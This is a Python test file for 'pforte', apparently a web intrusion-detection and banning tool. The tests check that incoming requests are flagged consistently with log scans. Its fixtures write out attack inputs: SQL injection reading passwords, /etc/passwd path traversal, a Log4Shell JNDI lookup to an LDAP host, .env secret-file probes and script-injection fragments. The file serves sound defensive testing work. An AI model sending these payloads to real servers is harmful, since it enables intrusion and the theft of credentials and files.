"""One request before it is answered: the same verdict as the log's, and never one that the answer would decide."""

from collections.abc import Mapping
from datetime import UTC, datetime
from ipaddress import ip_network

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pforte.bans.offence import Kind, Mode
from pforte.commands.scanning import plan_of
from pforte.robots.sites import Site, Sites
from pforte.robots.versions import Versions, read_version
from pforte.settings.table import CheckSettings, Settings
from pforte.visits.checks import CHECKS
from pforte.visits.door import LINE, MOST_BYTES, Door, Request
from pforte.visits.formats.combined import VHOST_COMBINED
from pforte.visits.scan import Origin, Scanner
from pforte.visits.visit import Visit

NOW = datetime(2026, 3, 1, 12, tzinfo=UTC).timestamp()
ROBOTS = b"User-agent: *\nDisallow: /private/\n"
BROWSER = b"Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"
AHREFS = b"Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)"
GOOGLE = b"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
SITES = Sites(
    [Site(name="www.example.org", versions=Versions((read_version(ROBOTS),)), traps=("/private/trap/",))]
)


def door_of(checks: Mapping[str, CheckSettings] | None = None) -> Door:
    return Door(plan_of(Settings(check=checks or {}), SITES), "gate.http")


@pytest.fixture(scope="module")
def door() -> Door:
    return door_of()


def asked(target: bytes, agent: bytes = BROWSER, **parts: bytes) -> Request:
    return Request(parts.get("method", b"GET"), target, b"www.example.org", agent, parts.get("referrer", b""))


def is_harmless(door: Door, client: str, request: Request) -> bool:
    return door.is_harmless(client, request.method, request.target, request.referrer, request.agent)


@pytest.mark.parametrize(
    ("request_", "check"),
    [
        (asked(b"/item?id=1%27%20UNION%20SELECT%20password,1%20FROM%20users--"), "visit.sql-injection"),
        (asked(b"/static/..%2f..%2f..%2fetc%2fpasswd"), "visit.path-traversal"),
        (asked(b"/.env"), "visit.secret-file"),
        (asked(b"/", b"${jndi:ldap://x.example.net/a}"), "visit.jndi-lookup"),
        (asked(b"/", referrer=b"${jndi:ldap://x.example.net/a}"), "visit.jndi-lookup"),
        (asked(b"/private/trap/"), "visit.trap"),
        (asked(b"/private/list", AHREFS), "visit.robots"),
        (asked(b"proxy.example.net:443", method=b"CONNECT"), "visit.proxy-probe"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_an_attack_is_seen_and_proven_by_a_line(door, request_, check):
    """The line that stands as evidence says what was asked, in a format that `pforte scan` reads."""
    assert not is_harmless(door, "192.0.2.7", request_)
    offence = door.offence_of("192.0.2.7", request_, NOW)
    assert offence is not None
    assert (offence.check, offence.mode, offence.service, offence.source) == (
        check,
        Mode.ENFORCE,
        "http",
        "gate.http",
    )
    assert (str(offence.address), offence.network) == ("192.0.2.7", ip_network("192.0.2.7"))
    assert offence.at.timestamp() == NOW
    assert offence.line is None
    visit = VHOST_COMBINED.parse(offence.evidence, UTC)
    assert isinstance(visit, Visit)
    assert (visit.client, visit.at, visit.status, visit.host) == ("192.0.2.7", NOW, 0, b"www.example.org")
    assert (visit.method, visit.target, visit.agent) == (request_.method, request_.target, request_.agent)


@pytest.mark.parametrize(
    "request_",
    [
        asked(b"/"),
        asked(b"/blog/2026/a-page?id=4711&lang=de"),
        asked(b"/suche?q=M%C3%BCller%20%26%20S%C3%B6hne"),
        asked(b"/private/list"),  # a person may read what robots.txt forbids to crawlers
        asked(b"/list", AHREFS),
        asked(b"", b""),
    ],
)
def test_others_come_in(door, request_):
    assert door.offence_of("192.0.2.8", request_, NOW) is None


@pytest.mark.parametrize(
    ("target", "why"),
    [
        (b"/wp-login.php", "it counts, and the answer decides"),
        (b"/site_backup.sql", "only where the site has no such file"),
    ],
)
def test_what_the_answer_decides_is_left_to_the_log(door, target, why):
    assert door.offence_of("192.0.2.9", asked(target), NOW) is None, why


def test_a_check_that_only_watches_refuses_nobody():
    door = door_of({"visit.secret-file": CheckSettings(mode="watch")})
    assert door.offence_of("192.0.2.7", asked(b"/.env"), NOW) is None


def test_a_check_that_counts_is_left_to_the_log():
    """The log sees the same request: a count here would count it twice."""
    door = door_of({"visit.secret-file": CheckSettings(count=3)})
    assert door.offence_of("192.0.2.7", asked(b"/.env"), NOW) is None


def test_a_claim_goes_with_the_offence(door):
    """Whoever says it is Googlebot is asked for the proof before it is banned."""
    offence = door.offence_of("192.0.2.7", asked(b"/private/list", GOOGLE), NOW)
    assert offence is not None
    assert (offence.check, offence.kind, offence.claim) == ("visit.robots", Kind.STANDARDS, "googlebot")


def test_who_fetched_robots_txt_acts_as_a_crawler():
    """A tool is bound by robots.txt once its network has fetched it, and not before."""
    door, tool = door_of(), b"python-requests/2.32"
    assert door.offence_of("2001:db8:1:2::7", asked(b"/private/list", tool), NOW) is None
    assert not is_harmless(door, "2001:db8:1:2::7", asked(b"/robots.txt", tool))
    assert door.offence_of("2001:db8:1:2::7", asked(b"/robots.txt", tool), NOW) is None
    assert not is_harmless(door, "2001:db8:1:2::8", asked(b"/private/list", tool))
    offence = door.offence_of("2001:db8:1:2::8", asked(b"/private/list", tool), NOW)
    assert offence is not None
    assert offence.check == "visit.robots"
    assert is_harmless(door, "2001:db8:1:3::8", asked(b"/private/list", tool))


def test_who_fetched_robots_txt_is_known_in_every_spelling():
    """Nginx on a socket of both families writes IPv4 addresses as v4-mapped ones."""
    door, tool = door_of(), b"python-requests/2.32"
    door.offence_of("192.0.2.7", asked(b"/robots.txt", tool), NOW)
    door.offence_of("2001:db8:1:2::7", asked(b"/robots.txt", tool), NOW)
    for client in ("192.0.2.7", "::ffff:192.0.2.7", "::FFFF:c000:207", "2001:DB8:1:2::8", "2001:0db8:1:2::8"):
        assert not is_harmless(door, client, asked(b"/private/list", tool))
    for client in ("192.0.2.8", "::ffff:192.0.2.8", "2001:db8:1:3::8"):
        assert is_harmless(door, client, asked(b"/private/list", tool))


@pytest.mark.parametrize("odd", [b"\x00", b"\t", b"\r", b"\x7f", b"\xc3\xa4", b"\\"])
def test_a_line_with_an_octet_that_the_log_would_escape_is_not_harmless(door, odd):
    line = LINE % (b"GET", b"/", b"-", BROWSER)
    assert door.is_harmless_line("192.0.2.7", line)
    assert not door.is_harmless_line("192.0.2.7", line.replace(b"Gecko", b"Ge" + odd + b"cko"))


def test_where_nothing_is_looked_for_odd_octets_are_seen_all_the_same():
    """Who relies on it that a harmless line is printable must not depend on the settings."""
    off = {check.id: CheckSettings(mode="off") for check in CHECKS}
    idle, door = door_of(off), door_of()
    line = LINE % (b"GET", b"/.env", b"-", BROWSER)
    door.adopt(idle)
    for one in (idle, door):
        assert one.is_harmless_line("192.0.2.7", line)
        assert not one.is_harmless_line("192.0.2.7", line.replace(b"env", b"e\x01v"))


def test_new_rules_are_adopted_and_fetchers_stay_known():
    door, tool = door_of(), b"python-requests/2.32"
    door.offence_of("192.0.2.7", asked(b"/robots.txt", tool), NOW)
    door.adopt(door_of({"visit.secret-file": CheckSettings(mode="off")}))
    assert door.offence_of("192.0.2.9", asked(b"/.env"), NOW) is None
    offence = door.offence_of("192.0.2.7", asked(b"/private/list", tool), NOW)
    assert offence is not None
    assert offence.check == "visit.robots"


def test_a_very_long_request_is_cut(door):
    huge = b"/?" + b"a=%27&" * 100_000
    offence = door.offence_of("192.0.2.7", asked(huge + b"/.env", b"x" * 100_000), NOW)
    assert offence is None
    attack = door.offence_of("192.0.2.7", asked(b"/../../../etc/passwd?" + b"x" * MOST_BYTES), NOW)
    assert attack is not None
    assert len(attack.evidence) <= 2048


OCTETS = st.binary(max_size=60)
PIECES = st.lists(
    st.one_of(OCTETS, st.sampled_from([b"/.env", b"%27 or 1=1--", b"../", b"etc/passwd", b"${jndi:", b'"', b"\\x27", b"<script>"])), max_size=6
).map(b"".join)  # fmt: skip


@pytest.fixture(scope="module")
def scanner() -> Scanner:
    checks = {check: CheckSettings(mode="off") for check in ("visit.impersonated-crawler",)}
    return Scanner(plan_of(Settings(check=checks), SITES))


@settings(max_examples=150, deadline=None)
@given(target=PIECES, agent=PIECES, referrer=PIECES, method=st.one_of(st.just(b"GET"), OCTETS))
def test_whatever_comes_the_log_would_say_the_same(door, scanner, target, agent, referrer, method):
    """No octets make it fail; what it convicts, the scan convicts by the very line that is the evidence.

    Where several checks convict a line, the two may name different ones: the scan stops at the first that is certain.
    """
    request_ = Request(method, target, b"www.example.org", agent, referrer)
    offence = door.offence_of("192.0.2.7", request_, NOW)
    if offence is None:
        return
    assert not is_harmless(door, "192.0.2.7", request_)
    origin = Origin(source="evidence", log=VHOST_COMBINED)
    seen = scanner.scan(offence.evidence + b"\n", origin, datetime.fromtimestamp(NOW, UTC)).offences
    assert [(other.network, other.kind) for other, _ in seen] == [(offence.network, offence.kind)]


def test_where_several_checks_convict_door_and_log_both_do(door, scanner):
    """Found by chance: the door names the lookup, the scan the file."""
    offence = door.offence_of("192.0.2.7", asked(b"/.env", b"${jndi:ldap://x/a}"), NOW)
    assert offence is not None
    seen = scanner.scan(
        offence.evidence + b"\n",
        Origin(source="evidence", log=VHOST_COMBINED),
        datetime.fromtimestamp(NOW, UTC),
    ).offences
    assert {other.check for other, _ in seen} <= {"visit.secret-file", "visit.jndi-lookup"}
    assert seen
